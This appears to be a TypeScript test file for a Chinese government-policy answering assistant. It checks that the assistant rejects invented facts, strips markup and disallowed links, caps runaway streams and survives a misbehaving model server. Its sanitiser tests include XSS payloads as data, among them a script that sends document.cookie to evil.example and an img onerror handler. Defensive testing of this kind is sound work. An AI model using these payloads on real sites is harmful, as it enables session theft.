import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createAssistant, type Assistant } from "../../src/answer/assistant.ts";
import { createLlmAnswerer } from "../../src/answer/llm.ts";
import { Answer } from "../../src/answer/schema.ts";
import { loadConfig } from "../../src/config.ts";
import { ConfigError } from "../../src/errors.ts";
import type { PolicyIndex } from "../../src/index/store.ts";
import { citedIds, fixtureIndex } from "../helpers/fixture.ts";
import { startOpenAIStub, toolCall, toolCallStream, type OpenAIStub, type StubReply } from "../helpers/openai-stub.ts";

/** The model's text against a hostile OpenAI-protocol server: checked, sanitized, bounded. */

const QUESTION = "电子印章公共服务平台由哪个部门负责？";
const CAP = 2000;

let index: PolicyIndex;
let stub: OpenAIStub;
let withLlm: Assistant;
let offline: Assistant;
let expected: Answer;
let cleanup = () => {};
const llmErrors: unknown[] = [];

function assistantWith(env: Record<string, string>): Assistant {
  const config = loadConfig({ OPENAI_API_KEY: "test", OPENAI_BASE_URL: stub.baseURL, CHAT_MODEL: "stub", LLM_TIMEOUT_MS: "1000", ...env });
  return createAssistant(index, { llm: createLlmAnswerer(config.chat!), output: config.answer, onLlmError: (err) => llmErrors.push(err) });
}

beforeAll(async () => {
  const f = await fixtureIndex();
  index = f.index;
  cleanup = f.cleanup;
  stub = await startOpenAIStub();
  withLlm = assistantWith({ ANSWER_MAX_CHARS: String(CAP) });
  offline = createAssistant(index);
  expected = await offline.ask({ message: QUESTION });
});
afterAll(async () => {
  await stub?.close();
  cleanup();
});
beforeEach(() => {
  stub.requests.length = 0;
  llmErrors.length = 0;
});

async function ask(reply: StubReply, assistant = withLlm): Promise<Answer> {
  stub.reply(() => reply);
  return Answer.parse(await assistant.ask({ message: QUESTION }));
}

function expectOffline(a: Answer, fallback: string) {
  expect(a.mode).toBe("extractive");
  expect(a.fallback).toBe(fallback);
  expect(a.answer).toBe(expected.answer);
  expect(citedIds(a)).toEqual(citedIds(expected));
}

describe("invented content next to a real citation", () => {
  it.each([
    ["an invented measure and unit", "根据第999条，由区外星局负责。", "llm_unsupported_measure"],
    ["an invented unit", "电子印章公共服务平台由区外星局负责。", "llm_unsupported_unit"],
    ["a real unit from another clause", "电子印章公共服务平台由区财政局负责。", "llm_unsupported_unit"],
    ["an invented figure", "全区99%以上政府机关使用电子印章，由区科委负责。", "llm_unsupported_figure"],
    ["an invented section", "见（九）外星服务，由区科委负责。", "llm_unsupported_section"],
    ["an invented plan", "根据《外星人优待条例》，由区科委负责。", "llm_unsupported_title"],
  ])("falls back to the offline answer on %s", async (_what, text, fallback) => {
    expectOffline(await ask(toolCall({ answer: text, citations: ["anting-2024:2"] })), fallback);
  });

  it("keeps an answer whose every measure, unit and figure is in the cited clause", async () => {
    const a = await ask(
      toolCall({ answer: "根据第2条，电子印章公共服务平台由区科委负责，全区95%以上政府机关使用电子印章。", citations: ["anting-2024:2"] }),
    );
    expect(a.mode).toBe("llm");
    expect(a.fallback).toBeUndefined();
  });
});

describe("markup in the model's text", () => {
  it("removes HTML, scripts and event handlers", async () => {
    const a = await ask(
      toolCall({
        answer:
          '区科委负责<img src=x onerror="alert(document.cookie)">（第2条）。<script>fetch("https://evil.example/?c="+document.cookie)</script><b>请知悉</b>',
        citations: ["anting-2024:2"],
      }),
    );
    expect(a.mode).toBe("llm");
    expect(a.answer).toBe("区科委负责（第2条）。请知悉");
  });

  it("removes links and tracking pixels to origins not on the allow list", async () => {
    const text =
      "区科委负责（第2条），详见[办事指南](https://evil.example/guide)。![](https://track.example/pixel.gif?id=42) https://evil.example/x";
    const a = await ask(toolCall({ answer: text, citations: ["anting-2024:2"] }));
    expect(a.mode).toBe("llm");
    expect(a.answer).toBe("区科委负责（第2条），详见办事指南。");
  });

  it("keeps a link to an allowed origin", async () => {
    const allowing = assistantWith({ ANSWER_LINK_ORIGINS: "https://www.anting.gov.cn" });
    const text = "区科委负责（第2条），详见[办事指南](https://www.anting.gov.cn/guide)。![](https://track.example/p.gif)";
    const a = await ask(toolCall({ answer: text, citations: ["anting-2024:2"] }), allowing);
    expect(a.answer).toBe("区科委负责（第2条），详见[办事指南](https://www.anting.gov.cn/guide)。");
  });
});

describe("answers without bounds", () => {
  it.each([
    ["1 MB", 1_000_000],
    ["10 MB", 10_000_000],
  ])("stops reading a %s answer at the cap and answers offline", async (_what, size) => {
    const args = JSON.stringify({ answer: "区科委负责电子印章平台。".repeat(Math.ceil(size / 12)), citations: ["anting-2024:2"] });
    const started = Date.now();
    // 4 kB every 10 ms: reading it all would take over two seconds (1 MB) or twenty (10 MB).
    const a = await ask(toolCallStream(args, { piece: 4096, delayMs: 10 }));
    expectOffline(a, "llm_too_long");
    expect(Date.now() - started).toBeLessThan(2000);
    // The request was given up early: a small part of the answer was ever sent.
    await expect.poll(() => stub.requests[0]?.closedByClient).toBe(true);
    expect(stub.requests[0]!.bytesWritten).toBeLessThan(size / 10);
  });

  it("caps the offline answer too", async () => {
    const tight = createAssistant(index, { output: { maxChars: 40, linkOrigins: [] } });
    const a = await tight.ask({ message: QUESTION });
    expect(expected.answer.length).toBeGreaterThan(40);
    expect(a.answer.length).toBeLessThanOrEqual(40);
    expect(a.answer).toContain("回答过长");
  });
});

describe("a server that misbehaves", () => {
  it.each([
    [
      "garbage instead of events",
      { kind: "raw", contentType: "text/event-stream", body: "data: {not json\n\ndata: \u0000\u0001garbage\n\n" },
    ],
    ["garbage JSON", { kind: "raw", contentType: "application/json", body: "\u00ff\u00fe<html>oops" }],
    ["a cut socket", { kind: "cut" }],
    ["a stream cut halfway", toolCallStream({ answer: "区科委负责。", citations: ["anting-2024:2"] }, { end: "cut", piece: 3 })],
    ["a stream that stops before its end", toolCallStream('{"answer": "区科委负', { end: "done" })],
  ] as [string, StubReply][])("answers offline on %s", async (_what, reply) => {
    expectOffline(await ask(reply), "llm_error");
    expect(llmErrors).toHaveLength(1);
  });

  it("answers offline when a stream stalls after its headers", async () => {
    const started = Date.now();
    const a = await ask(toolCallStream({ answer: "区科委负责。", citations: ["anting-2024:2"] }, { end: "hang" }));
    expectOffline(a, "llm_error");
    // The whole call has a deadline (the 1 s timeout), not only the wait for headers.
    expect(Date.now() - started).toBeLessThan(2500);
  });
});

describe("streaming the model's text", () => {
  it("passes sanitized text on as the model writes it, before the model has finished", async () => {
    const text = "电子印章公共服务平台由区科委负责（第2条）<img src=x onerror=alert(1)>，全区95%以上政府机关使用电子印章。";
    stub.reply(() => toolCallStream({ answer: text, citations: ["anting-2024:2"] }, { piece: 6, delayMs: 15 }));
    const deltas: { text: string; at: number }[] = [];
    const a = await withLlm.ask({ message: QUESTION }, { onDelta: (t) => deltas.push({ text: t, at: Date.now() }) });
    const finished = Date.now();
    expect(a.mode).toBe("llm");
    expect(deltas.length).toBeGreaterThan(2);
    expect(deltas[0]!.at).toBeLessThan(finished - 100);
    const shown = deltas.map((d) => d.text).join("");
    expect(shown).not.toMatch(/<|onerror/);
    expect(a.answer.startsWith(shown)).toBe(true);
  });

  it("cancels the model's request when the caller aborts", async () => {
    stub.reply(() => ({ kind: "hang" }));
    const controller = new AbortController();
    const pending = withLlm.ask({ message: QUESTION }, { signal: controller.signal });
    await expect.poll(() => stub.requests.length).toBe(1);
    controller.abort();
    await expect(pending).rejects.toThrow();
    await expect.poll(() => stub.requests[0]!.closedByClient, { timeout: 300 }).toBe(true);
    expect(llmErrors).toEqual([]);
  });
});

describe("the output settings", () => {
  it("default to a 4000-character cap and no link origins", () => {
    expect(loadConfig({}).answer).toEqual({ maxChars: 4000, linkOrigins: [] });
  });

  it("read ANSWER_MAX_CHARS and ANSWER_LINK_ORIGINS", () => {
    const config = loadConfig({
      ANSWER_MAX_CHARS: "1500",
      ANSWER_LINK_ORIGINS: " https://www.anting.gov.cn/ , http://zwdt.example.gov.cn:8080",
    });
    expect(config.answer).toEqual({ maxChars: 1500, linkOrigins: ["https://www.anting.gov.cn", "http://zwdt.example.gov.cn:8080"] });
  });

  it.each([
    ["a cap below 200", { ANSWER_MAX_CHARS: "50" }],
    ["a cap that is not a number", { ANSWER_MAX_CHARS: "lots" }],
    ["an origin with a path", { ANSWER_LINK_ORIGINS: "https://www.anting.gov.cn/guide" }],
    ["an origin without a scheme", { ANSWER_LINK_ORIGINS: "www.anting.gov.cn" }],
    ["a javascript: origin", { ANSWER_LINK_ORIGINS: "javascript:alert(1)" }],
  ])("reject %s with a clear error", (_what, env) => {
    expect(() => loadConfig(env)).toThrow(ConfigError);
    expect(() => loadConfig(env)).toThrow(/ANSWER_/);
  });
});
